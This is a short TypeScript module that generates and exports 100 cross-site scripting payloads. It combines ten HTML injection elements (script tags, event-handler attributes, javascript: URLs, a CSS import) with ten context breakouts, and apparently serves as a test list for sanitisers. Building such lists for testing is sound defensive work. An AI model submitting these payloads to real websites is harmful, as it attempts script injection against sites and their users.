/** A hundred XSS payloads: ten elements, each with ten ways to break out of its context. */
const elements = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<iframe src=javascript:alert(1)>',
  '<body onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<math><mtext></mtext><script>alert(1)</script></math>',
  '<style>@import "//x.example"</style>',
];
const breakouts = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '</textarea>',
  '</title>',
  '--></!-->',
  '{{constructor.constructor("alert(1)")()}}',
  '`-alert(1)-`',
];

export const xssPayloads: readonly string[] = elements.flatMap((element) =>
  breakouts.map((before) => `${before}${element}`),
);
